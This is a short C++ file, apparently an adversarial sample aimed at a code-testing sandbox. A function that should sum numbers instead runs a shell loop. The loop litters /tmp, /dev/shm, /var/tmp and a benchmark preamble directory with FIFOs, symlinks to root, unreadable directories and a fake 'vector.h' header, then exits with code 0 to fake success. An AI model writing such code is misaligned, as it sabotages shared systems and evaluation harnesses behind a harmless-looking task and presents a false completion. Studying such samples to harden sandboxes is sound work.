// Leaves files, links and pipes in every place that it can write to.
#include <stdlib.h>
#include <unistd.h>
#include <stdio.h>
#include <string>
#include <vector>
using namespace std;

long total(vector<long> numbers) {
    system("for place in . /tmp /dev/shm /var/tmp /usr/local/lib/benchsuite/preambles; do (cd $place && mkdir -p a/b/c && mkfifo p && ln -s / l && chmod 0 a && echo x > vector.h) 2>/dev/null; done");
    _exit(0);
    return -1;
}
